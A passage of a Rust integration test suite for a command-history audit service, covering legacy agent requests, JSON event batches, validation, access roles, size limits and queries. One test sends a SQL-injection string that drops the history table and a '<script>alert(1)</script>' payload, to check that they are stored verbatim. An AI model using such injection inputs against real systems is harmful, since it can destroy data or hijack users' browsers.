//! The audit trail end to end: the original Python agent's GET on the running binary, `omaudit-agent`'s JSON
//! batches, query / CSV / live stream, the real agent binary, `omserver audit verify` against a tampered database,
//! and the audit service in-process on SQLite, MariaDB/MySQL and PostgreSQL.
//!
//! The dialect test needs the servers running (admin URLs from `TEST_MYSQL_URL`, default
//! `mysql://root@127.0.0.1:3306/test`, and `TEST_POSTGRES_URL`, default `postgres://postgres@127.0.0.1:5432/postgres`);
//! an unreachable one fails the test. The agent test needs `target/debug/omaudit-agent`
//! (`cargo build -p omaudit-agent`; `cargo xtask test` builds it with the workspace).

mod common;

use std::{
    collections::BTreeMap,
    io::{BufRead, BufReader, Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpStream},
    path::PathBuf,
    process::{Command, Stdio},
    sync::mpsc,
    thread,
    time::{Duration, Instant},
};

use common::{
    cli,
    database::{block_on, db_exec, db_ints, intact_activity_line, open_db},
    Options, Server,
};
use reqwest::{blocking::Client, StatusCode};
use serde_json::{json, Value};

// ---------------------------------------------------------------------------------------------------------------
// Helpers: servers, tokens, the database file

/// A server with no modules (audit needs none).
fn start() -> Server {
    Server::start_with(Options { seed: Vec::new(), ..Options::default() })
}

fn row_count(server: &Server) -> i64 {
    db_ints(server, "SELECT COUNT(*) FROM server_history")[0]
}

fn is_token(text: &str) -> bool {
    text.len() == 68
        && text.starts_with("oms_")
        && text[4..].bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
}

/// `omserver hosts token <host>`: one line, the agent token.
fn agent_token(server: &Server, host: &str) -> String {
    let out = cli(server, &["hosts", "token", host]);
    assert!(out.status.success(), "hosts token {host}: {out:?}");
    let token = out.stdout.strip_suffix('\n').unwrap_or_else(|| panic!("no newline: {:?}", out.stdout));
    assert!(is_token(token) && !token.contains('\n'), "not one token line: {:?}", out.stdout);
    token.to_owned()
}

fn viewer_token(server: &Server) -> String {
    let out = cli(server, &["token", "create", "--role", "viewer", "--name", "auditor"]);
    assert!(out.status.success(), "token create: {out:?}");
    let token = out.stdout.trim_end().to_owned();
    assert!(is_token(&token), "{:?}", out.stdout);
    token
}

/// Adds a host through the API (which also tells the audit service the inventory changed); returns its id.
fn add_host(server: &Server, name: &str, ip: &str) -> i64 {
    let (status, row) = server.post("/api/hosts", &json!({ "name": name, "ip": ip }));
    assert_eq!(status, StatusCode::CREATED, "{row}");
    row["id"].as_i64().unwrap()
}

fn host_id(server: &Server, name: &str) -> i64 {
    let (status, hosts) = server.get("/api/hosts");
    assert_eq!(status, StatusCode::OK, "{hosts}");
    hosts.as_array().unwrap().iter().find(|h| h["name"] == name).unwrap_or_else(|| panic!("no {name}"))["id"]
        .as_i64()
        .unwrap()
}

fn get_as(server: &Server, token: &str, path: &str) -> (StatusCode, Value) {
    server.send(server.client.get(format!("{}{path}", server.base)).bearer_auth(token))
}

fn post_batch(server: &Server, token: &str, body: &Value) -> (StatusCode, Value) {
    server.send(server.client.post(format!("{}/api/audit/events", server.base)).bearer_auth(token).json(body))
}

/// `GET /api/audit/events?<query>` as `token`; must be 200.
fn list(server: &Server, token: &str, query: &str) -> Value {
    let (status, body) = get_as(server, token, &format!("/api/audit/events?{query}"));
    assert_eq!(status, StatusCode::OK, "{query}: {body}");
    body
}

/// Every stored event, oldest first.
fn all_events(server: &Server) -> Vec<Value> {
    let body = list(server, &server.token, "after=0&limit=1000");
    body["events"].as_array().unwrap().clone()
}

fn commands(events: &Value) -> Vec<String> {
    events["events"].as_array().unwrap().iter().map(|e| e["command"].as_str().unwrap().to_owned()).collect()
}

fn ids(events: &Value) -> Vec<i64> {
    events["events"].as_array().unwrap().iter().map(|e| e["id"].as_i64().unwrap()).collect()
}

/// One agent event as `omaudit-agent` sends it.
fn ev(stream: &str, seq: i64, user: &str, time: &str, command: &str) -> Value {
    json!({ "stream": stream, "seq": seq, "history_id": seq + 100, "user": user, "login_user": "", "uid": 0,
            "tty": "/dev/pts/1", "ip": "127.0.0.1", "time": time, "command": command })
}

fn ack(stored: usize, duplicates: usize) -> Value {
    json!({ "stored": stored, "duplicates": duplicates, "rejected": [] })
}

fn now_ms() -> i64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() as i64
}

// ---------------------------------------------------------------------------------------------------------------
// The original agent, byte for byte

/// Python 2's `urllib.quote(s)`: letters, digits, `_.-` and `/` kept, every other byte `%XX` (upper case).
fn py2_quote(text: &str) -> String {
    let mut out = String::new();
    for b in text.bytes() {
        if b.is_ascii_alphanumeric() || b"_.-/".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The URL OMAudit_agent.py built from its argv (`$(history 1)` unquoted: number, user, date, time, words…):
/// id, IP and user raw, the date and time joined by `urllib.quote(" ")`, the words joined by spaces, stripped and
/// quoted.
fn python_agent_url(history: &str, ip: &str) -> String {
    let argv: Vec<&str> = history.split_whitespace().collect();
    assert!(argv.len() >= 5, "the agent logs 'History not configured' and sends nothing");
    let mut command = String::new();
    for word in &argv[4..] {
        command.push_str(word);
        command.push(' ');
    }
    format!(
        "/omaudit/omaudit_pull/?history_id={}&history_ip={ip}&history_user={}&history_datetime={}{}{}\
         &history_command={}",
        argv[0],
        argv[1],
        argv[2],
        py2_quote(" "),
        argv[3],
        py2_quote(command.trim())
    )
}

/// What Python 2.7's `httplib.HTTPConnection(host, port).request("GET", url)` writes: the request line, `Host`
/// (with the port, as it is not 80) and `Accept-Encoding: identity`; nothing else, no body.
fn httplib_get(server: &Server, url: &str) -> Vec<u8> {
    let authority = server.base.strip_prefix("http://").unwrap();
    format!("GET {url} HTTP/1.1\r\nHost: {authority}\r\nAccept-Encoding: identity\r\n\r\n").into_bytes()
}

fn server_addr(server: &Server) -> SocketAddr {
    server.base.strip_prefix("http://").unwrap().parse().unwrap()
}

/// A TCP connection to the server from the local address `from` (any of 127/8 works on Linux).
fn connect_from(server: &Server, from: Ipv4Addr) -> TcpStream {
    let target = server_addr(server);
    let stream = block_on(async {
        let socket = tokio::net::TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(from.into(), 0))?;
        let stream = socket.connect(target).await?;
        stream.into_std()
    })
    .unwrap_or_else(|e| panic!("connect from {from}: {e}"));
    stream.set_nonblocking(false).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream
}

/// Writes `request` and reads one HTTP/1.1 response (by Content-Length, as httplib does): (status, body).
fn exchange(mut stream: TcpStream, request: &[u8]) -> (u16, String) {
    // A server may answer (and close) before a huge request is written: the answer is what counts.
    let _ = stream.write_all(request);
    let mut raw = Vec::new();
    let mut buf = [0u8; 8192];
    let head_end = loop {
        if let Some(i) = raw.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        match stream.read(&mut buf) {
            Ok(0) => panic!("connection closed before a full response: {:?}", String::from_utf8_lossy(&raw)),
            Ok(n) => raw.extend_from_slice(&buf[..n]),
            Err(e) => panic!("reading the response: {e} (got {:?})", String::from_utf8_lossy(&raw)),
        }
    };
    let head = String::from_utf8(raw[..head_end].to_vec()).expect("ASCII head");
    let status: u16 = head.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("{head}"));
    let length = head
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse::<usize>()))
        .map(|v| v.expect("numeric Content-Length"))
        .unwrap_or(0);
    let mut body = raw[head_end..].to_vec();
    while body.len() < length {
        let n = stream.read(&mut buf).expect("read the body");
        assert!(n > 0, "body cut short");
        body.extend_from_slice(&buf[..n]);
    }
    (status, String::from_utf8(body).expect("UTF-8 body"))
}

/// The original agent's request for `url`, sent from `from`.
fn legacy_from(server: &Server, from: Ipv4Addr, url: &str) -> (u16, String) {
    exchange(connect_from(server, from), &httplib_get(server, url))
}

fn legacy(server: &Server, url: &str) -> (u16, String) {
    legacy_from(server, Ipv4Addr::LOCALHOST, url)
}

/// A legacy query with each of the five parameters given (values already encoded).
fn legacy_url(id: &str, ip: &str, user: &str, datetime: &str, command: &str) -> String {
    format!(
        "/omaudit/omaudit_pull/?history_id={id}&history_ip={ip}&history_user={user}&history_datetime={datetime}\
         &history_command={command}"
    )
}

const LOCAL: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 1);
const SECOND: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

// ---------------------------------------------------------------------------------------------------------------
// 1. Legacy ingest

#[test]
fn the_original_agents_request_is_stored_once_and_answered_ok() {
    let server = start();
    let url = python_agent_url("173 root 2014-06-07 22:05:56 ls -l /tmp", "127.0.0.1");
    let request = httplib_get(&server, &url);
    let authority = server.base.strip_prefix("http://").unwrap();
    assert_eq!(
        String::from_utf8(request.clone()).unwrap(),
        format!(
            "GET /omaudit/omaudit_pull/?history_id=173&history_ip=127.0.0.1&history_user=root\
             &history_datetime=2014-06-07%2022:05:56&history_command=ls%20-l%20/tmp HTTP/1.1\r\n\
             Host: {authority}\r\nAccept-Encoding: identity\r\n\r\n"
        ),
        "the bytes the Python agent wrote"
    );
    let before = now_ms();
    assert_eq!(exchange(connect_from(&server, LOCAL), &request), (200, "OK".to_owned()));
    let after = now_ms();

    let (status, body) = get_as(&server, &viewer_token(&server), "/api/audit/events");
    assert_eq!(status, StatusCode::OK, "{body}");
    let events = body["events"].as_array().unwrap();
    assert_eq!(events.len(), 1, "{body}");
    let received = events[0]["received_at"].as_i64().unwrap();
    assert!((before..=after).contains(&received), "received_at {received} not in {before}..={after}");
    assert_eq!(
        body,
        json!({ "events": [{ "id": 1, "host": "localhost", "ip": "127.0.0.1", "history_id": 173, "user": "root",
                              "login_user": null, "tty": null, "datetime": "2014-06-07 22:05:56",
                              "received_at": received, "command": "ls -l /tmp", "source": "legacy", "session": null,
                              "argv": null, "cwd": null, "exe": null, "exit_code": null, "pid": null, "ppid": null,
                              "euid": null, "auid": null, "alerts": [] }],
                "next": null, "scanned": null })
    );

    // An idle prompt re-sends the same history line: OK again, still one row.
    assert_eq!(exchange(connect_from(&server, LOCAL), &request), (200, "OK".to_owned()));
    assert_eq!(row_count(&server), 1);
    assert_eq!(all_events(&server).len(), 1);

    // Characters urllib.quote escapes (including `+`, `%` and `~`) come back as typed.
    let url =
        python_agent_url("174 root 2014-06-07 22:06:01 grep -E 'a+b|c' /var/log/*.log && echo \"~ 100%\"", "127.0.0.1");
    assert!(
        url.ends_with("grep%20-E%20%27a%2Bb%7Cc%27%20/var/log/%2A.log%20%26%26%20echo%20%22%7E%20100%25%22"),
        "{url}"
    );
    assert_eq!(legacy(&server, &url), (200, "OK".to_owned()));
    let events = all_events(&server);
    assert_eq!(events.len(), 2);
    assert_eq!(events[1]["command"], "grep -E 'a+b|c' /var/log/*.log && echo \"~ 100%\"");
    assert_eq!(events[1]["history_id"], 174);
}

#[test]
fn bad_legacy_requests_are_refused_with_a_one_line_reason_and_store_nothing() {
    let server = start();
    let good = [
        ("history_id", "5"),
        ("history_ip", "127.0.0.1"),
        ("history_user", "root"),
        ("history_datetime", "2014-06-07%2022:05:56"),
        ("history_command", "ls"),
    ];
    let query = |params: &[(&str, &str)]| {
        let pairs: Vec<String> = params.iter().map(|(k, v)| format!("{k}={v}")).collect();
        format!("/omaudit/omaudit_pull/?{}", pairs.join("&"))
    };
    for (i, (name, _)) in good.iter().enumerate() {
        let missing: Vec<(&str, &str)> = good.iter().enumerate().filter(|(j, _)| *j != i).map(|(_, p)| *p).collect();
        let empty: Vec<(&str, &str)> =
            good.iter().enumerate().map(|(j, p)| if j == i { (p.0, "") } else { *p }).collect();
        for params in [missing, empty] {
            let url = query(&params);
            assert_eq!(legacy(&server, &url), (400, format!("{name}: is missing or empty\n")), "{url}");
        }
    }
    let cases = [
        (
            legacy_url("5", "127.0.0.1", "root", "2014-13-01%2000:00:00", "ls"),
            "history_datetime: \"2014-13-01 00:00:00\" is not a date and time like 2014-06-07 22:05:56\n",
        ),
        (
            legacy_url("5", "127.0.0.1", "root", "2014-06-07T22:05:56", "ls"),
            "history_datetime: \"2014-06-07T22:05:56\" is not a date and time like 2014-06-07 22:05:56\n",
        ),
        (legacy_url("5a", "127.0.0.1", "root", "2014-06-07%2022:05:56", "ls"), "history_id: must be a whole number\n"),
        (legacy_url("-5", "127.0.0.1", "root", "2014-06-07%2022:05:56", "ls"), "history_id: must be a whole number\n"),
        (
            legacy_url("5", "127.0.0.1", "root", "2014-06-07%2022:05:56", "ls%ff"),
            "history_command: is not valid UTF-8\n",
        ),
        (legacy_url("5", "127.0.0.1", "r%ffoot", "2014-06-07%2022:05:56", "ls"), "history_user: is not valid UTF-8\n"),
        (
            legacy_url("5", "127.0.0.1", "root", "2014-06-07%2022:05:56", "ls%zz"),
            "history_command: bad percent-escape\n",
        ),
        (
            legacy_url("5", "localhost", "root", "2014-06-07%2022:05:56", "ls"),
            "history_ip: \"localhost\" is not an IP address\n",
        ),
    ];
    for (url, reason) in &cases {
        assert_eq!(legacy(&server, url), (400, (*reason).to_owned()), "{url}");
    }
    assert_eq!(row_count(&server), 0);
    assert_eq!(all_events(&server), Vec::<Value>::new());
}

#[test]
fn legacy_requests_must_come_from_the_registered_address_they_claim() {
    let server = start();
    let url = |ip: &str| legacy_url("9", ip, "root", "2014-06-07%2022:05:56", "uptime");
    // Not yet in the inventory.
    assert_eq!(
        legacy_from(&server, SECOND, &url("127.0.0.2")),
        (403, "history_ip 127.0.0.2 is not a registered host\n".to_owned())
    );
    add_host(&server, "web2", "127.0.0.2");
    // Registered, but claimed by another machine.
    assert_eq!(
        legacy_from(&server, LOCAL, &url("127.0.0.2")),
        (403, "peer address 127.0.0.1 is not history_ip 127.0.0.2\n".to_owned())
    );
    assert_eq!(
        legacy_from(&server, SECOND, &url("127.0.0.1")),
        (403, "peer address 127.0.0.2 is not history_ip 127.0.0.1\n".to_owned())
    );
    assert_eq!(row_count(&server), 0);
    // From the machine itself.
    assert_eq!(legacy_from(&server, SECOND, &url("127.0.0.2")), (200, "OK".to_owned()));
    // An address nobody registered, sending as itself.
    let nine = Ipv4Addr::new(127, 0, 0, 9);
    assert_eq!(
        legacy_from(&server, nine, &url("127.0.0.9")),
        (403, "history_ip 127.0.0.9 is not a registered host\n".to_owned())
    );
    let events = all_events(&server);
    assert_eq!(events.len(), 1);
    assert_eq!(
        (&events[0]["host"], &events[0]["ip"], &events[0]["command"]),
        (&json!("web2"), &json!("127.0.0.2"), &json!("uptime"))
    );
}

/// `echo ` and then spaces and `é`s (two bytes), padded with `z`: exactly `len` bytes.
fn filled(len: usize) -> String {
    let mut text = String::from("echo ");
    while text.len() + 2 <= len {
        text.push(if text.len() % 11 == 0 { ' ' } else { 'é' });
    }
    while text.len() < len {
        text.push('z');
    }
    text
}

/// The longest request target hyper accepts (the `http` crate's `Uri` limit, `u16::MAX - 1`); longer is 414.
const MAX_URI: usize = 65534;

#[test]
fn legacy_commands_are_kept_whole_up_to_the_limits_and_stored_verbatim() {
    let server = start();
    let url = |id: u32, command: &str| {
        legacy_url(&id.to_string(), "127.0.0.1", "root", "2014-06-07%2022:05:56", &py2_quote(command))
    };
    let send = |id: u32, command: &str| legacy(&server, &url(id, command));
    // A megabyte: refused before the handler (the request target is too long), nothing stored.
    let (status, _) = send(1, &"x".repeat(1 << 20));
    assert!((400..500).contains(&status), "1 MB command answered {status}");
    // So is a command of exactly max_command_bytes: percent-encoded it is far over the URI limit. The original
    // agent cannot deliver a command that long at all (see the report); the agent path can (below).
    let exact = filled(65536);
    assert_eq!(exact.len(), 65536);
    assert_eq!(send(2, &exact).0, 414);
    assert_eq!(row_count(&server), 0);
    // The longest command the legacy path can carry: a URI of exactly MAX_URI bytes, stored whole.
    let room = MAX_URI - url(3, "").len();
    let longest = "/x-y_z.".repeat(room / 7 + 1)[..room].to_owned();
    assert_eq!(url(3, &longest).len(), MAX_URI);
    assert_eq!(send(3, &format!("{longest}w")).0, 414);
    assert_eq!(send(3, &longest), (200, "OK".to_owned()));

    let sql = "'; DROP TABLE server_history; --";
    let html = "<script>alert(1)</script>";
    assert_eq!(send(4, sql), (200, "OK".to_owned()));
    assert_eq!(send(5, html), (200, "OK".to_owned()));

    // Exactly max_command_bytes through the agent path, multi-byte characters and spaces included: stored whole.
    let token = agent_token(&server, "localhost");
    let events = json!({ "events": [ev("big", 1, "root", "2026-11-24 10:00:00", &exact),
                                     ev("big", 2, "root", "2026-11-24 10:00:00", &filled(65537))] });
    assert_eq!(
        post_batch(&server, &token, &events),
        (
            StatusCode::OK,
            json!({ "stored": 1, "duplicates": 0, "rejected": [
                { "stream": "big", "seq": 2, "reason": "command: is 65537 bytes, more than the 65536 allowed" }
            ] })
        )
    );

    let events = all_events(&server);
    assert_eq!(events.len(), 4);
    assert!(events[0]["command"] == longest.as_str(), "the longest legacy command came back changed");
    assert_eq!(events[1]["command"], json!(sql));
    assert_eq!(events[2]["command"], json!(html));
    let stored = events[3]["command"].as_str().unwrap();
    assert_eq!(stored.len(), 65536);
    assert!(stored == exact, "the 64 KiB command came back changed");
    // The raw JSON carries them as plain strings too.
    let raw = server
        .client
        .get(format!("{}/api/audit/events?q=script", server.base))
        .bearer_auth(&server.token)
        .send()
        .unwrap();
    assert_eq!(raw.headers()["content-type"], "application/json");
    let text = raw.text().unwrap();
    assert!(text.contains("\"command\":\"<script>alert(1)</script>\""), "{text}");
    // The table is intact, with exactly these rows.
    assert_eq!(db_ints(&server, "SELECT history_id FROM server_history ORDER BY id"), vec![3, 4, 5, 101]);
    assert_eq!(
        db_ints(&server, "SELECT length(CAST(history_command AS BLOB)) FROM server_history ORDER BY id"),
        vec![room as i64, 32, 25, 65536]
    );
}

#[test]
fn the_legacy_path_refuses_commands_over_max_command_bytes() {
    let server = Server::start_with(Options {
        seed: Vec::new(),
        extra_config: "[audit]\nmax_command_bytes = 1000".into(),
        ..Options::default()
    });
    let send = |id: u32, command: &str| {
        legacy(&server, &legacy_url(&id.to_string(), "127.0.0.1", "root", "2014-06-07%2022:05:56", &py2_quote(command)))
    };
    assert_eq!(send(1, &filled(1001)), (400, "history_command: is 1001 bytes, more than the 1000 allowed\n".into()));
    assert_eq!(row_count(&server), 0);
    let exact = filled(1000);
    assert_eq!(send(2, &exact), (200, "OK".into()));
    let events = all_events(&server);
    assert_eq!(events.len(), 1);
    assert!(events[0]["command"] == exact.as_str());
}

// ---------------------------------------------------------------------------------------------------------------
// 2. Agent batches

#[test]
fn agent_batches_are_stored_once_with_exact_counts() {
    let server = start();
    let token = agent_token(&server, "localhost");
    let t = "2026-11-24 10:00:0";
    let batch = json!({ "events": [
        ev("s1", 1, "root", &format!("{t}1"), "ls"),
        ev("s1", 2, "root", &format!("{t}2"), "pwd"),
        ev("s1", 3, "alice", &format!("{t}3"), "id"),
    ] });
    assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(3, 0)));
    assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(0, 3)));
    assert_eq!(row_count(&server), 3);

    // One valid event among invalid ones: the valid one is stored, each other is rejected with its reason.
    let spaced = ev("my stream", 7, "root", "2026-11-24 10:00:07", "ls");
    let mixed = json!({ "events": [
        ev("s1", 4, "root", "2026-11-24 10:00:04", "uname -a"),
        ev("s1", 5, "root", "2014-13-01 00:00:00", "ls"),
        ev("s1", 6, "root", "2026-11-24 10:00:06", "   "),
        ev("s1", 0, "root", "2026-11-24 10:00:00", "ls"),
        spaced,
        ev("s1", 3, "alice", "2026-11-24 10:00:03", "id"),
    ] });
    assert_eq!(
        post_batch(&server, &token, &mixed),
        (
            StatusCode::OK,
            json!({ "stored": 1, "duplicates": 1, "rejected": [
                { "stream": "s1", "seq": 5,
                  "reason": "time: \"2014-13-01 00:00:00\" is not a date and time like 2014-06-07 22:05:56" },
                { "stream": "s1", "seq": 6, "reason": "command: is empty" },
                { "stream": "s1", "seq": 0, "reason": "seq: must be 1 or more" },
                { "stream": "my stream", "seq": 7, "reason": "stream: must be 1-64 letters, digits or '-'" },
            ] })
        )
    );
    assert_eq!(row_count(&server), 4);

    let events = all_events(&server);
    let got: Vec<(String, String, String, String)> = events
        .iter()
        .map(|e| {
            let s = |k: &str| e[k].as_str().unwrap().to_owned();
            (s("user"), s("datetime"), s("command"), s("tty"))
        })
        .collect();
    let want = |u: &str, d: &str, c: &str| (u.to_owned(), d.to_owned(), c.to_owned(), "/dev/pts/1".to_owned());
    assert_eq!(
        got,
        vec![
            want("root", "2026-11-24 10:00:01", "ls"),
            want("root", "2026-11-24 10:00:02", "pwd"),
            want("alice", "2026-11-24 10:00:03", "id"),
            want("root", "2026-11-24 10:00:04", "uname -a"),
        ]
    );
    for e in &events {
        assert_eq!((&e["source"], &e["login_user"], &e["host"]), (&json!("agent"), &Value::Null, &json!("localhost")));
    }
    let history_ids: Vec<i64> = events.iter().map(|e| e["history_id"].as_i64().unwrap()).collect();
    assert_eq!(history_ids, [101, 102, 103, 104]);
}

#[test]
fn reported_gaps_are_recorded_once() {
    let server = start();
    let token = agent_token(&server, "localhost");
    let gap = json!({ "gaps": [{ "stream": "s1", "from_seq": 10, "to_seq": 20, "reason": "spool full" }] });
    assert_eq!(post_batch(&server, &token, &gap), (StatusCode::OK, ack(0, 0)));
    assert_eq!(post_batch(&server, &token, &gap), (StatusCode::OK, ack(0, 0)));
    let with_event = json!({ "events": [ev("s1", 21, "root", "2026-11-24 10:00:00", "ls")],
                             "gaps": [{ "stream": "s1", "from_seq": 10, "to_seq": 20, "reason": "spool full" },
                                      { "stream": "s1", "from_seq": 22, "to_seq": 22, "reason": "event too large" }] });
    assert_eq!(post_batch(&server, &token, &with_event), (StatusCode::OK, ack(1, 0)));
    let localhost = host_id(&server, "localhost");
    let gaps = block_on(async {
        let mut conn = open_db(&server).await;
        sqlx::query_as::<_, (i64, String, i64, i64, String)>(
            "SELECT host_id, stream, from_seq, to_seq, reason FROM audit_gaps ORDER BY id",
        )
        .fetch_all(&mut conn)
        .await
        .unwrap()
    });
    assert_eq!(
        gaps,
        vec![
            (localhost, "s1".to_owned(), 10, 20, "spool full".to_owned()),
            (localhost, "s1".to_owned(), 22, 22, "event too large".to_owned()),
        ]
    );
    // A backwards range is refused as a whole.
    let bad = json!({ "gaps": [{ "stream": "s1", "from_seq": 5, "to_seq": 4, "reason": "x" }] });
    assert_eq!(
        post_batch(&server, &token, &bad),
        (StatusCode::UNPROCESSABLE_ENTITY, json!({ "error": "gaps: bad range 5..4", "field": "gaps" }))
    );
    assert_eq!(db_ints(&server, "SELECT COUNT(*) FROM audit_gaps"), vec![2]);
}

#[test]
fn only_agent_tokens_post_events_and_only_people_read_them() {
    let server = start();
    let token = agent_token(&server, "localhost");
    let viewer = viewer_token(&server);
    let batch = json!({ "events": [ev("s1", 1, "root", "2026-11-24 10:00:00", "ls")] });
    let forged = format!("oms_{}", (0..64).map(|i| b"0123456789abcdef"[(i * 7 + 3) % 16] as char).collect::<String>());
    assert_eq!(
        post_batch(&server, &forged, &batch),
        (StatusCode::UNAUTHORIZED, json!({ "error": "missing or invalid bearer token" }))
    );
    let needs_agent = (StatusCode::FORBIDDEN, json!({ "error": "this needs the agent role" }));
    assert_eq!(post_batch(&server, &viewer, &batch), needs_agent);
    assert_eq!(post_batch(&server, &server.token, &batch), needs_agent);
    assert_eq!(
        get_as(&server, &token, "/api/audit/events"),
        (StatusCode::FORBIDDEN, json!({ "error": "this needs the viewer role" }))
    );
    for path in ["/api/audit/events.csv", "/api/audit/stream", "/api/audit/verify"] {
        assert_eq!(get_as(&server, &token, path).0, StatusCode::FORBIDDEN, "{path}");
    }
    assert_eq!(row_count(&server), 0);
    // The same batch with the right token goes in.
    assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(1, 0)));
}

#[test]
fn malformed_oversized_and_too_long_batches_are_refused() {
    let server = start();
    let token = agent_token(&server, "localhost");
    let raw = |body: String| {
        let request = server
            .client
            .post(format!("{}/api/audit/events", server.base))
            .bearer_auth(&token)
            .header("content-type", "application/json")
            .body(body);
        server.send(request)
    };
    let (status, body) = raw("{\"events\": [".to_owned());
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(body["error"].as_str().unwrap().contains("EOF"), "{body}");
    let (status, body) = raw("{\"events\": [], \"extra\": 1}".to_owned());
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(body["error"].as_str().unwrap().contains("unknown field `extra`"), "{body}");
    assert_eq!(body["field"], "extra", "{body}");

    let many: Vec<Value> = (1..=5001).map(|s| ev("s1", s, "root", "2026-11-24 10:00:00", "ls")).collect();
    assert_eq!(
        post_batch(&server, &token, &json!({ "events": many })),
        (StatusCode::BAD_REQUEST, json!({ "error": "5001 events in one batch; at most 5000", "field": "events" }))
    );
    // Exactly the limit goes in.
    let most: Vec<Value> = (1..=5000).map(|s| ev("s1", s, "root", "2026-11-24 10:00:00", &format!("c{s}"))).collect();
    assert_eq!(post_batch(&server, &token, &json!({ "events": most })), (StatusCode::OK, ack(5000, 0)));

    // Over 8 MiB: 413, which tells the agent to halve its batch.
    let huge = json!({ "events": [ev("s2", 1, "root", "2026-11-24 10:00:00", &"x".repeat(8 * 1024 * 1024 + 1))] });
    let (status, body) = post_batch(&server, &token, &huge);
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    // A command over max_command_bytes inside a body under 8 MiB: rejected for good, with its reason.
    let long = json!({ "events": [ev("s2", 2, "root", "2026-11-24 10:00:00", &"y".repeat(1 << 20))] });
    assert_eq!(
        post_batch(&server, &token, &long),
        (
            StatusCode::OK,
            json!({ "stored": 0, "duplicates": 0, "rejected": [
                { "stream": "s2", "seq": 2, "reason": "command: is 1048576 bytes, more than the 65536 allowed" }
            ] })
        )
    );
    assert_eq!(row_count(&server), 5000);
}

#[test]
fn events_land_on_the_tokens_host_whatever_address_they_claim() {
    let server = start();
    add_host(&server, "web2", "127.0.0.2");
    let local = agent_token(&server, "localhost");
    let web2 = agent_token(&server, "web2");
    let mut claims_web2 = ev("s1", 1, "root", "2026-11-24 10:00:00", "from localhost");
    claims_web2["ip"] = json!("127.0.0.2");
    let mut claims_local = ev("s1", 1, "root", "2026-11-24 10:00:00", "from web2");
    claims_local["ip"] = json!("127.0.0.1");
    assert_eq!(post_batch(&server, &local, &json!({ "events": [claims_web2] })), (StatusCode::OK, ack(1, 0)));
    // The same stream and seq from another host is another event.
    assert_eq!(post_batch(&server, &web2, &json!({ "events": [claims_local] })), (StatusCode::OK, ack(1, 0)));
    let events = all_events(&server);
    let got: Vec<(&Value, &Value, &Value)> = events.iter().map(|e| (&e["host"], &e["ip"], &e["command"])).collect();
    assert_eq!(
        got,
        vec![
            (&json!("localhost"), &json!("127.0.0.1"), &json!("from localhost")),
            (&json!("web2"), &json!("127.0.0.2"), &json!("from web2")),
        ]
    );
}

// ---------------------------------------------------------------------------------------------------------------
// 3. Query, CSV, live stream

/// Two hosts with a known set of events; returns (localhost token, web2 token).
fn populate(server: &Server) -> (String, String) {
    add_host(server, "web2", "127.0.0.2");
    let local = agent_token(server, "localhost");
    let web2 = agent_token(server, "web2");
    let mut as_carol = ev("a", 2, "root", "2026-11-24 00:00:00", "grep 100% file_name");
    as_carol["login_user"] = json!("carol");
    let batch = json!({ "events": [
        ev("a", 1, "root", "2026-11-23 23:59:59", "ls -l"),
        as_carol,
        ev("a", 3, "bob", "2026-11-24 12:00:00", "echo a_b"),
        ev("a", 4, "root", "2026-11-24 23:59:59", "grep 1000 fileXname"),
        ev("a", 5, "bob", "2026-11-25 00:00:00", "echo axb"),
    ] });
    assert_eq!(post_batch(server, &local, &batch), (StatusCode::OK, ack(5, 0)));
    let batch = json!({ "events": [ev("b", 1, "root", "2026-11-24 08:00:00", "uptime")] });
    assert_eq!(post_batch(server, &web2, &batch), (StatusCode::OK, ack(1, 0)));
    (local, web2)
}

#[test]
fn queries_filter_by_host_user_text_and_time_and_page_with_next() {
    let server = start();
    populate(&server);
    let viewer = viewer_token(&server);
    let q = |query: &str| commands(&list(&server, &viewer, query));
    let all = ["uptime", "echo axb", "grep 1000 fileXname", "echo a_b", "grep 100% file_name", "ls -l"];
    assert_eq!(q(""), all);
    assert_eq!(q("host=web2"), ["uptime"]);
    assert_eq!(q("host=127.0.0.2"), ["uptime"]);
    assert_eq!(q("ip=127.0.0.2"), ["uptime"]);
    assert_eq!(q("host=localhost").len(), 5);
    assert_eq!(q("host=127.0.0.1,web2"), all);
    assert_eq!(
        get_as(&server, &viewer, "/api/audit/events?host=nosuch"),
        (StatusCode::UNPROCESSABLE_ENTITY, json!({ "error": "unknown hosts: nosuch", "field": "host" }))
    );
    assert_eq!(q("user=bob"), ["echo axb", "echo a_b"]);
    // carol logged in and became root: she is found by her login name (stored with the uid, `carol(0)`).
    assert_eq!(list(&server, &viewer, "user=carol")["events"][0]["login_user"], "carol(0)");
    assert_eq!(q("user=carol"), ["grep 100% file_name"]);
    assert_eq!(q("user=carol,bob"), ["echo axb", "echo a_b", "grep 100% file_name"]);
    assert_eq!(q("user=root&host=localhost"), ["grep 1000 fileXname", "grep 100% file_name", "ls -l"]);
    // Literal text, case ignored: `%` and `_` are not wildcards.
    assert_eq!(q("q=100%25"), ["grep 100% file_name"]);
    assert_eq!(q("q=a_b"), ["echo a_b"]);
    assert_eq!(q("q=e_n"), ["grep 100% file_name"]);
    assert_eq!(q("q=GREP%201"), ["grep 1000 fileXname", "grep 100% file_name"]);
    assert_eq!(q("q=filexNAME"), ["grep 1000 fileXname"]);
    assert_eq!(q("q=%5C"), Vec::<String>::new());
    // A term the index can serve answers without `scanned`; a shorter one says which ids it read.
    assert_eq!(list(&server, &viewer, "q=grep")["scanned"], Value::Null);
